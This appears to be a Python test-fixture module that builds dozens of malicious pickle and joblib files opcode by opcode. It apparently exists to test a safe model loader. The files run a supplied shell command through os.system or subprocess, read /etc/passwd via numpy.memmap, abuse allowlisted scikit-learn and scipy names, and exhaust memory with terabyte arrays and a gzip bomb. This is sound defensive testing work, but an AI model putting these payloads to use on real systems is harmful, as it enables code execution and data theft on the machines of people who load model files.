# SPDX-License-Identifier: Apache-2.0
"""Pickles that would run code, read elsewhere or fill the memory when loaded, written opcode by opcode."""

__all__ = ["CALLED", "malicious_pickles"]

import bz2
import functools
import gzip
import io
import lzma
import pickle
import struct
import zlib

import numpy as np

# Functions and classes that a pickle must never reach, with what each would be called with.
CALLED = (
    "posix.system", "os.popen", "subprocess.Popen", "subprocess.check_output", "builtins.eval", "builtins.exec",
    "builtins.__import__", "builtins.getattr", "builtins.open", "builtins.compile", "builtins.map", "builtins.list",
    "builtins.type", "socket.create_connection", "shutil.rmtree", "runpy.run_path", "importlib.import_module",
    "urllib.request.urlopen", "pickle.loads", "joblib.load", "numpy.load", "numpy.fromfile", "pandas.read_pickle",
    "pandas.eval", "timeit.timeit", "ctypes.CDLL", "functools.partial", "operator.attrgetter", "operator.methodcaller",
    "types.FunctionType", "marshal.loads", "cProfile.run", "pdb.run", "pydoc.pipepager", "webbrowser.open",
    "torch.load", "numpy.testing._private.utils.runstring", "sklearn.utils._testing.set_random_state",
    "sklearn.datasets._base.load_files", "sklearn.externals.array_api_compat.common._helpers.sys",
    "xgboost.core.Booster", "xgboost.core.DMatrix", "lightgbm.basic.Booster", "copyreg.add_extension",
    "sklearn.linear_model._base.LinearRegression",
    "numpy.ndarray", "numpy.memmap", "joblib.memory.Memory", "pandas.core.computation.expr.Expr", "site.main",
)  # fmt: skip


def _text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _global(name):
    module, _, attribute = name.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def _stack_global(name):
    module, _, attribute = name.rpartition(".")
    return b"\x80\x04" + _text(module) + _text(attribute) + b"\x93"


def _call(name, argument):
    return _global(name) + b"(" + _text(argument) + b"tR."


def _wrapper(shape, dtype=b"cnumpy\ndtype\n(X\x02\x00\x00\x00f8tR", *, more=b""):
    """An array as joblib writes it, of any shape, before its bytes."""
    return (
        b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
        + _text("subclass") + b"cnumpy\nndarray\n" + _text("shape") + shape + _text("order") + _text("C")
        + _text("dtype") + dtype + _text("allow_mmap") + b"\x89ub" + more
    )  # fmt: skip


def malicious_pickles(command):
    """Every file by name; where one runs code, it runs ``command`` in a shell."""
    files = {}
    for name in CALLED:
        files[f"call-{name}"] = _call(name, command)
        module_and_name = _stack_global(name)
        files[f"stack-global-{name}"] = module_and_name + b"(" + _text(command) + b"tR."
    files |= _tricks(command) | _allowed_names(command) | _descriptions() | _joblib(command) | _sizes()
    payload = _call("posix.system", command)
    files["gzip"] = gzip.compress(payload)
    files["bz2"] = bz2.compress(payload)
    files["xz"] = lzma.compress(payload)
    files["lzma"] = lzma.compress(payload, format=lzma.FORMAT_ALONE)
    files["zlib"] = zlib.compress(payload)
    return files


def _tricks(command):
    system = _text("posix") + b"\x94" + _text("system") + b"\x94"
    memo = b"\x80\x04" + system + b"00h\x00h\x01\x93(" + _text(command) + b"tR."
    benign = pickle.dumps(np.arange(3), 2)[:-1]
    return {
        "inst": b"(" + _text(command) + b"iposix\nsystem\n.",
        "obj": b"(" + _global("posix.system") + _text(command) + b"o.",
        "memo-game": memo,
        "after-a-model": benign + b"0" + _call("posix.system", command),
        "in-a-list": b"(l" + _call("posix.system", command)[:-1] + b"a.",
        "in-a-dict-key": b"(d" + _call("posix.system", command)[:-1] + b"Ns.",
        "extension-1": b"\x80\x02\x82\x01.",
        "extension-2": b"\x80\x02\x83\x01\x00.",
        "extension-4": b"\x80\x02\x84\x01\x00\x00\x00.",
        "persistent": b"Pcommand\n.",
        "persistent-binary": b"\x80\x02" + _text(command) + b"Q.",
        "out-of-band": b"\x80\x05\x97.",
        "out-of-band-read-only": b"\x80\x05\x97\x98.",
        "newobj-of-a-function": b"\x80\x02" + _global("posix.system") + _text(command) + b"\x85\x81.",
        "newobj-with-keywords": b"\x80\x04" + _global("subprocess.Popen") + b"(" + _text(command) + b"t}\x92.",
        "newobj-popen": b"\x80\x02" + _global("subprocess.Popen") + _text(command) + b"\x85\x81.",
        "build-changes-a-class": b"\x80\x02" + _global("sklearn.base.BaseEstimator") + b"}" + _text("predict")
        + b"Nsb.",
        "build-changes-a-class-by-slots": b"\x80\x02" + _global("sklearn.base.BaseEstimator") + b"N}" + _text("predict")
        + b"Ns\x86b.",
        "build-changes-a-list": b"\x80\x02]}b.",
        "setstate-of-a-system-call": b"\x80\x02" + _global("sklearn.base.BaseEstimator") + b")\x81}"
        + _text("__setstate__") + _global("posix.system") + b"sb" + _text(command) + b"b.",
        "reconstructor-of-a-process": _global("copyreg._reconstructor") + b"(" + _global("subprocess.Popen")
        + _global("builtins.object") + b"NtR.",
        "python-2-names": b"\x80\x02c__builtin__\neval\n(" + _text("1") + b"tR.",
        "python-2-module": b"\x80\x02ccommands\ngetoutput\n(" + _text(command) + b"tR.",
        "attribute-of-an-allowed-module": b"\x80\x04" + _text("sklearn.base")
        + _text("warnings.sys.modules") + b"\x93)R.",
        "call-of-an-attribute": b"\x80\x04" + _text("collections") + _text("OrderedDict.fromkeys") + b"\x93(tR.",
        "call-of-an-object": b"\x80\x02" + _global("sklearn.base.BaseEstimator") + b")\x81(" + _text(command) + b"tR.",
        "call-of-text": b"\x80\x02" + _text("system") + b"(" + _text(command) + b"tR.",
        "name-of-bytes": b"\x80\x04C\x05posixC\x06system\x93.",
        "defaultdict-of-eval": _global("collections.defaultdict") + b"(" + _global("builtins.eval") + b"tR.",
        "defaultdict-of-an-estimator": _global("collections.defaultdict") + b"("
        + _global("sklearn.pipeline.Pipeline") + b"tR.",
        "codec": _global("_codecs.encode") + b"(" + _text(command) + _text("zip") + b"tR.",
        "random-state-of-eval": _global("numpy.random._pickle.__randomstate_ctor") + b"(" + _text("1")
        + _global("builtins.eval") + b"tR.",
        "cut-short": pickle.dumps(np.arange(1000))[:-9],
        "text": b"import os\nos.system('true')\n",
        "nothing-but-stop": b".",
    }  # fmt: skip


def _dict(**values):
    return b"}(" + b"".join(_text(key) + value for key, value in values.items()) + b"u"


def _made(name):
    return _global(name) + b")\x81"


_ESTIMATOR = "sklearn.base.BaseEstimator"


def _allowed_names(command):
    """Names that real models need, put to another use."""
    code = f"import os\nos.system({command!r})\n"
    template = _dict(_parse_arg_template=_text(code), shapes=b"N", numargs=b"K\x00")
    own = {key: b"\x80\x02" + _made(_ESTIMATOR) + _dict(**{key: _global("numpy.memmap")}) + b"b" for key in
           ("__setstate__", "append", "extend", "add", "__class__", "__reduce_ex__", "__setitem__")}  # fmt: skip
    secret = _text("/etc/passwd")
    return {
        "distribution-template": b"\x80\x02" + _made("scipy.stats._continuous_distns.norm_gen") + template + b"b.",
        "distribution-template-discrete": b"\x80\x02" + _made("scipy.stats._discrete_distns.binom_gen") + template
        + b"b.",
        "distribution-template-in-a-tuple": b"\x80\x02" + _made("scipy.stats._continuous_distns.norm_gen")
        + b"N" + template + b"\x86b.",
        "index-that-maps-a-file": b"\x80\x02" + _global("pandas.core.indexes.base._new_Index") + b"("
        + _global("numpy.memmap") + _dict(filename=secret, dtype=_text("u1"), mode=_text("r")) + b"tR.",
        "index-of-an-estimator": b"\x80\x02" + _global("pandas.core.indexes.base._new_Index") + b"("
        + _global("builtins.bytes") + _dict(source=b"\x8a\x06" + struct.pack("<q", 10**12)[:6]) + b"tR.",
        "reconstructor-that-maps-a-file": _global("copyreg._reconstructor") + b"(" + _global(_ESTIMATOR)
        + _global("numpy.memmap") + secret + b"tR.",
        "reconstructor-that-initialises": _global("copyreg._reconstructor") + b"(" + _global("pandas.DataFrame")
        + _global("pandas.DataFrame") + secret + b"tR.",
        "generator-that-maps-a-file": b"\x80\x02" + _global("numpy.random._pickle.__generator_ctor") + b"(" + secret
        + _global("numpy.memmap") + b"tR.",
        "generator-of-bytes": b"\x80\x02" + _global("numpy.random._pickle.__randomstate_ctor") + b"(\x8a\x06"
        + struct.pack("<q", 10**12)[:6] + _global("builtins.bytes") + b"tR.",
        "setstate-of-an-allowed-name": own["__setstate__"] + secret + b"b.",
        "append-of-an-allowed-name": own["append"] + secret + b"a.",
        "extend-of-an-allowed-name": own["extend"] + b"(" + secret + b"e.",
        "add-of-an-allowed-name": own["add"] + b"(" + secret + b"\x90.",
        "class-of-an-object": own["__class__"] + b".",
        "reduce-of-an-object": own["__reduce_ex__"] + b".",
        "setitem-of-an-object": own["__setitem__"] + secret + secret + b"s.",
        "slots-change-the-class": b"\x80\x02" + _made(_ESTIMATOR) + b"N"
        + _dict(__class__=_global("sklearn.pipeline.Pipeline")) + b"\x86b.",
        "newobj-of-a-value": b"\x80\x02" + _global("numpy.memmap") + secret + b"\x85\x81.",
        "call-of-a-value": b"\x80\x02" + _global("sklearn.metrics._ranking.roc_auc_score") + b")R.",
        "fraction-bomb": _global("fractions.Fraction") + b"(" + _text("1e1000000000") + b"tR.",
        "counter-of-a-range": b"\x80\x02" + _global("collections.Counter") + b"("
        + _global("pandas.core.indexes.base._new_Index") + b"(" + _global("pandas.RangeIndex")
        + _dict(start=b"K\x00", stop=b"\x8a\x06" + struct.pack("<q", 10**12)[:6]) + b"tRtR.",
    }  # fmt: skip


def _descriptions():
    """Arrays whose description of their elements lies, so that their bytes would be read as addresses."""

    def dtype(name, fields=b"", size=8, more=b""):
        described = b"(K\x04" + _text("|") + b"N(" + b"".join(_text(field) for field in ("a",) if fields) + b"t"
        described += (b"}" + _text("a") + fields + b"s" if fields else b"N") + b"K" + bytes([size]) + b"K\x01K\x00t"
        return b"cnumpy\ndtype\n(" + _text(name) + b"\x89\x88tR" + described + b"b" + more

    objects = b"cnumpy\ndtype\n(" + _text("O8") + b"\x89\x88tR"
    wide = b"cnumpy\ndtype\n(" + _text("f8") + b"\x89\x88tR"
    again = b"q\x01(K\x04" + _text("|") + b"NN" + b"NK\xffK\x01K\x00tb"
    array = b"\0" * 8
    return {
        "objects-that-are-not-told": _wrapper(b"(K\x01t", dtype("V8", objects + b"K\x00\x86"), more=array + b"."),
        "elements-beyond-themselves": _wrapper(b"(K\x01t", dtype("V8", wide + b"K\x80\x86"), more=array + b"."),
        "elements-described-twice": _wrapper(b"(K\x01t", dtype("V8", more=again), more=array + b"."),
        "elements-of-a-class": _wrapper(b"(K\x01t", b"cnumpy\ndtype\n(cnumpy\nvoid\ntR", more=array + b"."),
    }  # fmt: skip


def _joblib(command):
    inner = _call("posix.system", command)
    objects = b"cnumpy\ndtype\n(X\x02\x00\x00\x00O8tR"
    return {
        "joblib-object-array": _wrapper(b"(K\x01t", objects, more=inner + b"."),
        "joblib-object-array-gzip": gzip.compress(_wrapper(b"(K\x01t", objects, more=inner + b".")),
        "joblib-after-an-array": _wrapper(b"(K\x02t", more=b"\0" * 16 + inner),
        "joblib-bytes-that-look-like-an-end": _wrapper(b"(K\x00t", more=inner),
        "joblib-old-wrapper": b"\x80\x02cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}(" + _text("filename")
        + _text("../secret.npy") + _text("subclass") + b"cnumpy\nndarray\nub.",
        "joblib-older-wrapper": b"\x80\x02cjoblib.numpy_pickle\nZNDArrayWrapper\n)\x81}b.",
        "joblib-of-a-process": _wrapper(b"(K\x00t").replace(b"cnumpy\nndarray\n", b"csubprocess\nPopen\n") + b".",
        "joblib-nested-too-deep": _wrapper(b"(K\x01t", objects) * 20,
        "joblib-alignment-of-an-earlier-state": _two_states(inner),
        "joblib-array-that-is-a-wrapper": _wrapper(b"(K\x01t", objects, more=b"cjoblib.numpy_pickle\n"
        b"NumpyArrayWrapper\n)\x81.") + _wrapper(b"(K\x01t")[-60:] + inner,
        "joblib-dtype-of-eval": _wrapper(b"(K\x01t", b"cbuiltins\neval\n(X\x01\x00\x00\x001tR", more=b"."),
    }  # fmt: skip


def _two_states(inner):
    """The second state of a wrapper lacks what the first one said of the bytes before the array."""
    state = _dict(subclass=b"cnumpy\nndarray\n", shape=b"(K\x00t", order=_text("C"), allow_mmap=b"\x89",
                  dtype=b"cnumpy\ndtype\n(" + _text("f8") + b"tR")  # fmt: skip
    aligned = state[:-1] + _text("numpy_array_alignment_bytes") + b"K\x10u"
    hidden = b"\x03..."  # as padding it is passed over, as instructions it ends the pickle
    return b"\x80\x02" + _made(_WRAPPER) + b"q\x09" + aligned + b"b\x000h\x09" + state + b"b" + hidden + inner


_WRAPPER = "joblib.numpy_pickle.NumpyArrayWrapper"


def _sizes():
    many = struct.pack("<q", 10**12)
    return {
        "array-of-terabytes": _wrapper(b"(\x8a\x06" + many[:6] + b"t", more=b"."),
        "array-of-negative-size": _wrapper(b"(J" + struct.pack("<i", -5) + b"t", more=b"."),
        "array-of-terabytes-gzip": gzip.compress(_wrapper(b"(\x8a\x06" + many[:6] + b"t", more=b".")),
        "reconstruct-terabytes": _global("numpy.core.multiarray._reconstruct") + b"(cnumpy\nndarray\n(\x8a\x06"
        + many[:6] + b"tC\x01btR.",
        "bytearray-of-a-number": _global("builtins.bytearray") + b"(\x8a\x06" + many[:6] + b"tR.",
        "bytearray-opcode": b"\x80\x05\x96" + struct.pack("<Q", 10**12) + b".",
        "bytes-opcode": b"\x80\x04\x8e" + struct.pack("<Q", 10**12) + b".",
        "text-opcode": b"\x80\x04\x8d" + struct.pack("<Q", 10**12) + b".",
        "frame": b"\x80\x04\x95" + struct.pack("<Q", 10**12) + b".",
        "long-opcode": b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b".",
        "list-of-a-range": _global("builtins.set") + b"(" + _global("builtins.range")
        + b"(\x8a\x06" + many[:6] + b"tRtR.",
        "bomb": _bomb(),
    }  # fmt: skip


@functools.cache
def _bomb():
    written = io.BytesIO()
    with gzip.GzipFile(fileobj=written, mode="wb", compresslevel=1) as file:
        file.write(b"\x80\x04\x8e" + struct.pack("<Q", 300 * 2**20))
        for _ in range(300):
            file.write(bytes(2**20))
        file.write(b".")
    return written.getvalue()
